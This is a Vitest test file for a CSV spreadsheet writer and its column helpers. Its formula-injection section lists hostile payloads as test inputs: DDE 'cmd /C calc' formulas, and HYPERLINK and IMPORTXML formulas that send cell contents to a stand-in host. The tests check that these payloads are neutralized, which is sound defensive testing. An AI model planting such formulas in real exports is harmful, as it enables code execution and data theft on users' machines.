import { describe, expect, it } from 'vitest';
import { neutralizeFormula, writeCsv } from '../../../../server/formats/sheets/csv.ts';
import {
  type Cell,
  createSheetColumns,
  type Sheet,
  type SheetColumn,
} from '../../../../server/formats/sheets/sheet.ts';
import type { PlainDate } from '../../../../shared/dates.ts';
import { type RecordField, toFieldValues } from '../../../../shared/record-fields.ts';
import { parseCsv } from '../../../support/csv.ts';

const sheetOf = (headings: string[], rows: Cell[][], perPage = 1): Sheet<Cell[]> => ({
  columns: headings.map((heading, index) => ({ name: heading, heading, cell: (row) => row[index] ?? null })),
  pages: Array.from({ length: Math.ceil(rows.length / perPage) }, (_, page) =>
    rows.slice(page * perPage, (page + 1) * perPage),
  ),
});

it('a sheet is RFC 4180 with a byte order mark, with plain figures and days', async () => {
  const rows: Cell[][] = [
    ['a "b", c', { cents: -116_050 }],
    ['línea\n2', 7],
    ['', null],
    ['a;b', { date: '2026-11-20' }],
  ];
  expect(await writeCsv(sheetOf(['Proveedor', 'Total'], rows))).toBe(
    '\ufeffProveedor,Total\r\n"a ""b"", c",-1160.50\r\n"línea\n2",7\r\n,\r\n"a;b",2026-11-20\r\n',
  );
  expect(await writeCsv(sheetOf(['Proveedor', 'Total'], []))).toBe('\ufeffProveedor,Total\r\n');
});

describe('text that a spreadsheet would run as a formula', () => {
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const before = ['', ' ', '\t', '\n', '\r\n', '\u00a0', '\u2003', '\ufeff', '\u200b', '\u0000'];
  const hostile = [
    ...signs.flatMap((sign) => before.map((start) => `${start}${sign}1+1`)),
    '=HYPERLINK("https://malo.test?"&A1,"ver")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    '=IMPORTXML(CONCAT("https://malo.test/",A2:E2),"//a")',
    '=1+1";=1+1',
    '=";"&A1',
    '\rx',
    '\tx',
    '+52 (55) 5000 1001',
    // Removing one leading apostrophe has to give the original text.
    "'=1+1",
    "'001",
  ];

  it.each(hostile)('is made harmless, and is the same text behind the apostrophe: %j', async (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
    const { rows } = parseCsv(await writeCsv(sheetOf(['a', 'b'], [[text, `x;${text}`]])));
    expect(rows).toEqual([{ a: `'${text}`, b: `x;${text}` }]);
  });

  it('is made harmless in a heading too, which may be the name of a rubro', async () => {
    const { headings } = parseCsv(await writeCsv(sheetOf(['=1+1'], [])));
    expect(headings).toEqual(["'=1+1"]);
  });

  it('is distinguished from other text, and from figures', async () => {
    for (const text of ['A-1', '1160.50', '', 'Torre = 2', "d'x", 'a@b.mx'])
      expect(neutralizeFormula(text)).toBe(text);
    expect(await writeCsv(sheetOf(['a'], [[{ cents: -1 }], [-5]]))).toBe('\ufeffa\r\n-0.01\r\n-5\r\n');
  });
});

const FIELDS = [
  { name: 'folio', label: 'Número de folio', shortLabel: 'Folio', kind: 'text', maxLength: 60 },
  { name: 'importe', label: 'Importe', kind: 'money', cents: 'amountCents' },
  { name: 'dia', label: 'Día', kind: 'date' },
] as const satisfies readonly RecordField[];

interface Row {
  folio: string;
  amountCents: number;
  restCents: number | null;
  dia: PlainDate | null;
}

it('a column is a field under its short label, a member of its row, or computed', () => {
  const columns: readonly SheetColumn<Row>[] = createSheetColumns(
    [
      'folio',
      'importe',
      'dia',
      { name: 'rest', heading: 'Resta', kind: 'money', sum: false },
      { name: 'doble', heading: 'Doble', cell: ({ amountCents }) => ({ cents: amountCents * 2 }) },
    ],
    FIELDS,
  );
  expect(columns.map(({ heading }) => heading)).toEqual(['Folio', 'Importe', 'Día', 'Resta', 'Doble']);
  const cells = (row: Row) => columns.map(({ cell }) => cell(row));
  expect(cells({ folio: 'A-1', amountCents: 150, restCents: 0, dia: '2026-11-20' })).toEqual([
    ...['A-1', { cents: 150 }, { date: '2026-11-20' }],
    ...[{ cents: 0 }, { cents: 300 }],
  ]);
  expect(cells({ folio: '', amountCents: 0, restCents: null, dia: null })).toEqual([
    ...['', { cents: 0 }, null],
    ...[null, { cents: 0 }],
  ]);
});

it('a draft has the members that were sent, amounts under the names of their cents', () => {
  const sent = { importe: 150, dia: null, folio: undefined, version: 3 };
  expect(toFieldValues(FIELDS, sent)).toEqual({ amountCents: 150, dia: null });
  expect(Object.keys(toFieldValues(FIELDS, sent))).toEqual(['amountCents', 'dia']);
});
